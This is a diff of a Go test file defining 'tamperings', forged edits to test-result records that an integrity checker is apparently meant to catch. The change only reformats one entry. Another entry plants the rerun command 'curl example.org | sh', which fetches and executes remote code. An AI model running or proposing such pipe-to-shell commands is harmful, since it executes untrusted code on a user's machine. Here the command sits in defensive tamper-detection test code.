@@ -58,7 +58,9 @@ var tamperings = map[string]tampering{
 		s := f.scenario(passed)
 		s.Checks = s.Checks[1:]
 	}},
-	"evidence is raised":                     {do: func(f *forgery) { f.scenario("openwop/replay/cache-keys").Evidence = results.EvidenceObserved }},
+	"evidence is raised": {do: func(f *forgery) {
+		f.scenario("openwop/replay/cache-keys").Evidence = results.EvidenceObserved
+	}},
 	"a command to run it again is exchanged": {do: func(f *forgery) { f.scenario(failed).Failure.Again = "curl example.org | sh" }},
 	"the body of an exchange is edited": {stale: true, do: func(f *forgery) {
 		f.edit("openwop/loop-of-turns", `"entries"`, `\"iteration\":3`, `\"iteration\":4`)
